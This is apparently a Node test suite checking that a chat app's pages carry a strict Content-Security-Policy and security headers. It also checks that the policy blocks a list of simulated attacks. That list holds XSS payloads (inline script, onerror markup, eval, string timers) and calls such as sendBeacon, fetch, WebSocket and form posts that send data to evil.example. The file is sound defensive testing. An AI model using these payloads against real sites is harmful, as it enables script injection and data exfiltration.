// What the page is sent with, to the letter: the policy is the second wall behind safe rendering, and it must hold alone.

import assert from 'node:assert/strict';
import {after, before, test} from 'node:test';
import {launch, openPage} from './browser.mjs';
import {Gateway} from './gateway.mjs';

let browser;
let gateway;
before(async () => {
  browser = await launch();
  gateway = await new Gateway().start();
});
after(async () => {
  await browser?.close();
  await gateway?.stop();
});

const kPolicy = {
  'default-src': ["'none'"], 'script-src': ["'self'"], 'style-src': ["'self'"], 'img-src': ["'self'"], 'connect-src': ["'self'"],
  'manifest-src': ["'self'"], 'base-uri': ["'none'"], 'form-action': ["'none'"], 'frame-ancestors': ["'none'"],
  'require-trusted-types-for': ["'script'"], 'trusted-types': ["'none'"],
};
const kHeaders = {
  'x-content-type-options': 'nosniff', 'x-frame-options': 'DENY', 'referrer-policy': 'no-referrer',
  'cross-origin-opener-policy': 'same-origin', 'cross-origin-resource-policy': 'same-origin', 'cache-control': 'no-cache',
};

for (const path of ['/chat', '/chat/app.js', '/chat/app.css', '/chat/theme.js', '/chat/icon.svg', '/chat/manifest.webmanifest']) {
  test(`${path} is sent with the policy`, async () => {
    for (const headers of [{}, {'accept-encoding': 'identity'}]) {
      const response = await fetch(new URL(path, gateway.url), {headers});
      assert.equal(response.status, 200);
      const policy = Object.fromEntries(response.headers.get('content-security-policy').split(/;\s*/).map(part => {
        const [name, ...sources] = part.split(' ');
        return [name, sources];
      }));
      assert.deepEqual(policy, kPolicy);
      assert.doesNotMatch(response.headers.get('content-security-policy'), /unsafe|\*|data:|blob:|https?:|nonce|strict-dynamic/);
      for (const [name, value] of Object.entries(kHeaders)) assert.equal(response.headers.get(name), value, name);
      assert.match(response.headers.get('permissions-policy'), /camera=\(\).*microphone=\(\)/);
      const again = await fetch(new URL(path, gateway.url), {headers: {'if-none-match': response.headers.get('etag')}});
      assert.equal(again.status, 304);
      assert.ok(again.headers.get('content-security-policy'), 'the policy of the answer that says `unchanged`');
    }
  });
}

for (const path of ['/api/status', '/no-such-place', '/doctor/text', '/healthz']) {
  test(`${path} is no document`, async () => {
    const response = await fetch(new URL(path, gateway.url));
    assert.equal(response.headers.get('x-content-type-options'), 'nosniff');
    assert.doesNotMatch(response.headers.get('content-type') ?? '', /html|svg|xml/);
  });
}

test('the page has no scripts or styles of its own in its text', async () => {
  const text = await (await fetch(new URL('/chat', gateway.url))).text();
  assert.doesNotMatch(text, /<style|\sstyle=|\son\w+=|javascript:|<script(?![^>]*\ssrc=)|<base/i);
});

// What the policy refuses, each as if an attacker had already found a way into the document.
const kAttempts = {
  'an inline script': () => { const s = document.createElement('script'); s.append('window.__pwned = 1'); document.body.append(s); },
  'an event handler': () => { document.body.setAttribute('onclick', 'window.__pwned = 1'); document.body.click(); },
  'markup as a string': () => { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.__pwned=1">'); },
  'markup through a range': () => { document.body.append(document.createRange().createContextualFragment('<script>window.__pwned=1</script>')); },
  'eval': () => { (0, eval)('window.__pwned = 1'); },
  'a function from text': () => { new Function('window.__pwned = 1')(); },
  'a timer from text': () => { setTimeout('window.__pwned = 1'); },
  'a policy that allows all': () => { trustedTypes.createPolicy('default', {createHTML: x => x, createScript: x => x}); },
  'a script from elsewhere': () => { const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s); },
  'a picture from elsewhere': () => { const i = document.createElement('img'); i.src = 'https://evil.example/x.png'; document.body.append(i); },
  'a request elsewhere': () => fetch('https://evil.example/').catch(() => {}),
  'a socket elsewhere': () => { new WebSocket('wss://evil.example/'); },
  'a beacon elsewhere': () => { navigator.sendBeacon('https://evil.example/', 'secret'); },
  'a frame': () => { const f = document.createElement('iframe'); f.src = 'https://evil.example/'; document.body.append(f); },
  'a worker': () => { new Worker('https://evil.example/x.js'); },
  'a style sheet in the document': () => { const s = document.createElement('style'); s.append('body { display: none }'); document.head.append(s); },
  'a base address': () => { const b = document.createElement('base'); b.href = 'https://evil.example/'; document.head.append(b); },
  'a form to elsewhere': () => { const f = document.createElement('form'); f.action = 'https://evil.example/'; document.body.append(f); f.submit(); },
};
for (const [name, attempt] of Object.entries(kAttempts)) {
  test(`the policy refuses ${name}`, async () => {
    const {page, context} = await openPage(browser, gateway.url, {allow: [/./]});
    const asked = [];
    context.on('request', request => { if (new URL(request.url()).host === 'evil.example') asked.push(request); });
    await page.locator('.empty').waitFor();
    // What page.evaluate() itself runs is exempt from the policy; a timer's callback is not.
    await page.evaluate(`setTimeout(() => { try { (${attempt})(); } catch {} })`);
    await page.waitForFunction(() => window.__violations.length > 0);
    assert.equal(await page.evaluate(() => window.__pwned), undefined);
    assert.equal(await page.evaluate(() => getComputedStyle(document.body).display), 'block');
    for (const request of asked) assert.ok(request.failure(), `asked ${request.url()}`);
    await context.close();
  });
}
